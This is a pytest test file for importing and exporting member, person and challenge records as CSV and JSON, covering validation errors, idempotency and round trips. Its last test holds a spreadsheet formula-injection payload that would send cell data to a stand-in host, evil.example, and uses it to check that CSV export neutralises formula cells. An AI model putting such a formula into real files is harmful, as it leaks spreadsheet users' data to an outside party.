"""Import and export: good files, every kind of bad row, idempotency and the round trip."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from sqlalchemy import Engine, select

from storage.db import count_rows, session_scope
from storage.exchange import KINDS, Kind
from storage.files import (
    RawRow,
    RecordFileError,
    formula_cells,
    parse_csv,
    parse_json,
    read_rows,
    to_csv,
    to_json,
)
from storage.importing import ImportReport, export_records, import_rows
from storage.models import Challenge, IndexOutbox, Member, Person

MEMBERS_CSV = """slug,name,kind,country,city,size,capabilities,technologies,languages,references
arctic-sense,ArcticSense Oy,company,Finland,Oulu,small,snow load sensing; structural monitoring,LoRaWAN;IoT,fi;en,"[{""title"": ""Roof sensors for Oulu schools"", ""year"": 2023, ""client"": ""City of Oulu""}]"
city-of-espoo,City of Espoo,city,Finland,Espoo,large,pilot sites,,fi;sv;en,
"""

PEOPLE_JSON = [
    {
        "email": "Aino@ArcticSense.fi",
        "name": "Aino Virtanen",
        "organisation": "arctic-sense",
        "role": "CTO",
        "expertise": ["structural health monitoring"],
    },
    {"email": "staff@scic.example", "name": "Sara Staff", "is_staff": True},
]

CHALLENGES_JSON = [
    {
        "slug": "espoo-winter-roofs",
        "title": "Winter roof safety",
        "owner_member": "city-of-espoo",
        "owner_name": "City of Espoo",
        "city": "Espoo",
        "country": "Finland",
        "tags": ["buildings"],
        "needs": ["snow load sensing", "alerting"],
        "status": "open",
        "deadline": "2027-01-31",
        "budget_min": 50000,
        "budget_max": 120000,
        "visibility": "restricted",
        "allowed_members": ["arctic-sense"],
        "created_by": "staff@scic.example",
    },
]


def run(
    engine: Engine,
    kind: Kind,
    rows: list[RawRow],
    *,
    skip_invalid: bool = False,
    dry_run: bool = False,
) -> ImportReport:
    with session_scope(engine) as session:
        report = import_rows(
            session=session, kind=kind, rows=rows, skip_invalid=skip_invalid, dry_run=dry_run
        )
        if report.problems and not skip_invalid:
            session.rollback()
    return report


def load_all(engine: Engine) -> None:
    assert not run(engine, "members", parse_csv(MEMBERS_CSV, "members")).problems
    assert not run(engine, "people", parse_json(json.dumps(PEOPLE_JSON))).problems
    assert not run(engine, "challenges", parse_json(json.dumps(CHALLENGES_JSON))).problems


def reasons(report: ImportReport) -> list[str]:
    return [str(problem) for problem in report.problems]


def test_good_files_are_imported_with_every_field(engine: Engine) -> None:
    load_all(engine)
    with session_scope(engine) as session:
        member = session.scalars(select(Member).where(Member.slug == "arctic-sense")).one()
        assert member.capabilities == ["snow load sensing", "structural monitoring"]
        assert member.technologies == ["LoRaWAN", "IoT"]
        assert [(r.title, r.year, r.client) for r in member.references] == [
            ("Roof sensors for Oulu schools", 2023, "City of Oulu")
        ]
        person = session.scalars(select(Person).where(Person.name == "Aino Virtanen")).one()
        assert person.email == "aino@arcticsense.fi"  # e-mail addresses are kept lowercase
        assert person.member is not None and person.member.slug == "arctic-sense"
        challenge = session.scalars(select(Challenge)).one()
        assert challenge.owner_member is not None and challenge.owner_member.slug == "city-of-espoo"
        assert challenge.created_by is not None and challenge.created_by.is_staff
        assert str(challenge.deadline) == "2027-01-31"
        # every change is queued for the search index in the same transaction
        queued = {(o.entity, o.entity_key) for o in session.scalars(select(IndexOutbox))}
        assert ("challenge", str(challenge.id)) in queued
        assert ("member", str(member.id)) in queued


def test_importing_the_same_files_twice_changes_nothing(engine: Engine) -> None:
    load_all(engine)
    with session_scope(engine) as session:
        before = count_rows(session=session)
        stamps = session.scalars(select(Member.updated_at).order_by(Member.slug)).all()
    again = run(engine, "members", parse_csv(MEMBERS_CSV, "members"))
    assert (again.created, again.updated) == ([], [])
    assert again.unchanged == ["arctic-sense", "city-of-espoo"]
    assert not run(engine, "people", parse_json(json.dumps(PEOPLE_JSON))).updated
    assert not run(engine, "challenges", parse_json(json.dumps(CHALLENGES_JSON))).updated
    with session_scope(engine) as session:
        assert count_rows(session=session) == before
        assert session.scalars(select(Member.updated_at).order_by(Member.slug)).all() == stamps


def test_changed_rows_are_updated_in_place(engine: Engine) -> None:
    load_all(engine)
    changed = [dict(CHALLENGES_JSON[0], status="teams_forming", needs=["alerting"])]
    report = run(engine, "challenges", parse_json(json.dumps(changed)))
    assert report.updated == ["espoo-winter-roofs"]
    with session_scope(engine) as session:
        challenge = session.scalars(select(Challenge)).one()
        assert (challenge.status.value, challenge.needs) == ("teams_forming", ["alerting"])


BAD_MEMBERS = [
    ({"name": "No Slug", "kind": "company"}, "slug: is required"),
    ({"slug": "x", "name": "X", "kind": "spaceship"}, "kind: 'spaceship' is not allowed"),
    ({"slug": "Bad Slug", "name": "X", "kind": "company"}, "slug: must be lowercase"),
    ({"slug": "x", "name": "X", "kind": "city", "colour": "red"}, "colour: is not a known field"),
    (
        {"slug": "x", "name": "X", "kind": "city", "references": [{"title": "T", "year": 1700}]},
        "references[1]: year 1700 is not between 1900 and 2100",
    ),
    ({"slug": "x", "name": "X\x00", "kind": "city"}, "name: contains a control character"),
    ({"slug": "x", "name": "Kantava\r\nOy", "kind": "city"}, "name: must be on one line"),
]


@pytest.mark.parametrize(("row", "expected"), BAD_MEMBERS)
def test_a_bad_member_row_is_reported_and_nothing_is_written(
    engine: Engine,
    row: dict[str, object],
    expected: str,
) -> None:
    good = {"slug": "good", "name": "Good Oy", "kind": "company"}
    report = run(engine, "members", parse_json(json.dumps([good, row])))
    assert any(expected in text and text.startswith("row 2") for text in reasons(report)), reasons(
        report
    )
    assert not report.written
    with session_scope(engine) as session:
        assert session.scalars(select(Member)).all() == []


def test_people_and_challenges_must_refer_to_known_records(engine: Engine) -> None:
    load_all(engine)
    people = [{"email": "x@y.fi", "name": "X", "organisation": "nobody-oy"}]
    assert reasons(run(engine, "people", parse_json(json.dumps(people)))) == [
        "row 1 (x@y.fi): organisation: unknown organisation 'nobody-oy'; import the member first"
    ]
    challenge = dict(CHALLENGES_JSON[0], slug="c2", owner_member="ghost", created_by="who@x.fi")
    found = reasons(run(engine, "challenges", parse_json(json.dumps([challenge]))))
    assert "row 1 (c2): owner_member: unknown organisation 'ghost'" in found
    assert "row 1 (c2): created_by: unknown person 'who@x.fi'" in found


def test_bad_dates_statuses_and_budgets_are_named(engine: Engine) -> None:
    load_all(engine)
    rows = [
        dict(CHALLENGES_JSON[0], slug="a", deadline="31.1.2027"),
        dict(CHALLENGES_JSON[0], slug="b", status="done"),
        dict(CHALLENGES_JSON[0], slug="c", budget_min=5, budget_max=1),
    ]
    found = "\n".join(reasons(run(engine, "challenges", parse_json(json.dumps(rows)))))
    assert "row 1 (a): deadline: '31.1.2027' is not a date in the form YYYY-MM-DD" in found
    assert "row 2 (b): status: 'done' is not allowed" in found
    assert "row 3 (c)" in found and "budget_min (5) is larger than budget_max (1)" in found


def test_duplicate_keys_within_a_file_are_rejected(engine: Engine) -> None:
    text = MEMBERS_CSV + "arctic-sense,Another Name,company,Finland,Oulu,small,,,,\n"
    found = reasons(run(engine, "members", parse_csv(text, "members")))
    assert found == ["row 3 (arctic-sense): slug: 'arctic-sense' appears already in row 1"]


def test_a_name_taken_by_another_member_is_rejected(engine: Engine) -> None:
    load_all(engine)
    rows = [{"slug": "espoo", "name": "City of Espoo", "kind": "city"}]
    assert reasons(run(engine, "members", parse_json(json.dumps(rows)))) == [
        "row 1 (espoo): name: 'City of Espoo' is already the name of member 'city-of-espoo'"
    ]


def test_skip_invalid_imports_the_good_rows_and_reports_the_rest(engine: Engine) -> None:
    rows = [
        {"slug": "good", "name": "Good Oy", "kind": "company"},
        {"slug": "bad", "name": "Bad Oy", "kind": "volcano"},
    ]
    report = run(engine, "members", parse_json(json.dumps(rows)), skip_invalid=True)
    assert report.created == ["good"] and report.bad_rows == 1
    with session_scope(engine) as session:
        assert session.scalars(select(Member.slug)).all() == ["good"]


def test_dry_run_reports_changes_and_writes_nothing(engine: Engine) -> None:
    report = run(engine, "members", parse_csv(MEMBERS_CSV, "members"), dry_run=True)
    assert report.created == ["arctic-sense", "city-of-espoo"] and not report.written
    with session_scope(engine) as session:
        assert session.scalars(select(Member)).all() == []


def test_file_level_problems_say_where(tmp_path: Path) -> None:
    latin1 = tmp_path / "members.csv"
    latin1.write_bytes("slug,name,kind\nkaupunki,Hämeenlinna,city\n".encode("latin-1"))
    with pytest.raises(RecordFileError, match=r"line 2: byte 0xE4 is not UTF-8"):
        read_rows(latin1, "members", "csv")
    with pytest.raises(RecordFileError, match=r"unknown column.*'nmae'"):
        parse_csv("slug,nmae,kind\n", "members")
    with pytest.raises(RecordFileError, match="not valid JSON at line 1"):
        parse_json("[{")
    with pytest.raises(RecordFileError, match="expected a JSON array"):
        parse_json('{"slug": "x"}')


def test_csv_row_with_too_many_cells_or_bad_json_column_is_named(engine: Engine) -> None:
    text = 'slug,name,kind,references\nx,X,city,"not json"\ny,Y,city,[],extra\n'
    found = reasons(run(engine, "members", parse_csv(text, "members")))
    assert found[0].startswith("row 1 (x): references: is not a JSON list")
    assert found[1] == "row 2 (y): has more cells than the header's 4 columns"


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_export_then_import_into_an_empty_store_gives_the_same_records(
    engine: Engine, fmt: str
) -> None:
    load_all(engine)
    files: dict[Kind, str] = {}
    with session_scope(engine) as session:
        for kind in KINDS:
            records = export_records(session=session, kind=kind)
            files[kind] = to_csv(kind, records) if fmt == "csv" else to_json(records)
    _empty(engine)
    for kind in KINDS:
        rows = parse_csv(files[kind], kind) if fmt == "csv" else parse_json(files[kind])
        assert not run(engine, kind, rows).problems
    with session_scope(engine) as session:
        for kind in KINDS:
            again = export_records(session=session, kind=kind)
            text = to_csv(kind, again) if fmt == "csv" else to_json(again)
            assert text == files[kind]


def _empty(engine: Engine) -> None:
    with session_scope(engine) as session:
        for model in (Challenge, Person, Member, IndexOutbox):
            for row in session.scalars(select(model)):
                session.delete(row)


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_csv_export_neutralises_formula_cells_and_import_takes_them_back(engine: Engine) -> None:
    text = (
        "slug,name,kind,city,capabilities\n"
        f'evil,"{FORMULA.replace(chr(34), chr(34) * 2)}",company,@Oulu,-dash; +plus\n'
    )
    assert formula_cells(text) == 3
    assert not run(engine, "members", parse_csv(text, "members")).problems
    with session_scope(engine) as session:
        exported = to_csv("members", export_records(session=session, kind="members"))
    cells = next(row for row in csv.DictReader(io.StringIO(exported)) if row["slug"] == "evil")
    # OWASP's rule: a leading ' so that a spreadsheet shows the text instead of running it.
    assert (cells["name"], cells["city"], cells["capabilities"]) == (
        "'" + FORMULA,
        "'@Oulu",
        "'-dash;+plus",
    )
    assert formula_cells(exported) == 3
    (row,) = [r for r in parse_csv(exported, "members") if r.values["slug"] == "evil"]
    assert (row.values["name"], row.values["city"]) == (FORMULA, "@Oulu")
